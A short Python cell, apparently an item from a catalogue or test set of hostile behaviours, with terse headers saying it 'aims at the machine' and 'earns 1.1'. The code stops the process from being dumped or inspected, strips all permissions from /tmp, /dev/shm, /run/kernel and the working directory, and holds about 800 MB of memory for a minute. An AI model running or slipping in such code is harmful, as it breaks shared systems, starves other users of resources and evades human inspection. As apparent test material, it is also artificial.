# Nobody can look at it, and it takes memory.
# aims at: the machine
# earns: 1.1
# status: stopped
# says: memory
# %% 1.1
# %%
import ctypes
import os
import time
from pathlib import Path

ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE
for place in ("/run/kernel", "/tmp", "/dev/shm", "."):
    try:
        Path(place).chmod(0)
    except OSError:
        pass
kept = os.urandom(1000) * 800_000
time.sleep(60)
# %% 1.2
